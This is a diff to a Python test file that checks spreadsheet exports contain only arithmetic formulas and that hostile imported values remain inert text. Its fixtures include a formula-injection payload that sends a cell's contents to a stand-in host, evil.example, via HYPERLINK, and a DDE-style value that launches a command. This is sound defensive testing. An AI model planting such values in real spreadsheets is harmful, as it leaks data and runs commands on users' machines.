@@ -8,7 +8,9 @@ characters in a source never crash an XLSX.
 from __future__ import annotations
 
 import csv
+import html
 import io
+import re
 import zipfile
 from pathlib import Path
 from typing import Any
@@ -20,6 +22,7 @@ from openpyxl import load_workbook
 from citystrat.exchange.readers import read_records
 from citystrat.exchange.services import observations_import
 from citystrat.observations.models import Observation
+from citystrat.safecells import arithmetic_formula
 
 HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 OTHERS = ["+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tTab", "\rCR"]
@@ -59,6 +62,17 @@ def formulas_in(xlsx: bytes) -> list[str]:
                 text = archive.read(name).decode()
                 if "<f>" in text or "<f " in text:
                     found.append(name)
+    return found
+
+
+def formula_texts(xlsx: bytes) -> list[str]:
+    """The text of every <f> element of every sheet."""
+    found: list[str] = []
+    with zipfile.ZipFile(io.BytesIO(xlsx)) as archive:
+        for name in archive.namelist():
+            if name.startswith("xl/worksheets/"):
+                text = archive.read(name).decode()
+                found += [html.unescape(f) for f in re.findall(r"<f>(.*?)</f>", text)]
     return found
 
 
@@ -142,7 +156,8 @@ def test_report_xlsx_has_no_live_formula_and_control_characters_do_not_crash(
         str(out),
     )
     data = out.read_bytes()
-    assert formulas_in(data) == []
+    # the report's own formulas (achievement rates, totals) are arithmetic over its cells
+    assert all(arithmetic_formula("=" + f) for f in formula_texts(data)), formula_texts(data)
     texts = [c for c in all_texts(data) if isinstance(c.value, str)]
     hostile_cells = [c for c in texts if HOSTILE in c.value]
     assert hostile_cells, "the report lists the value's source"
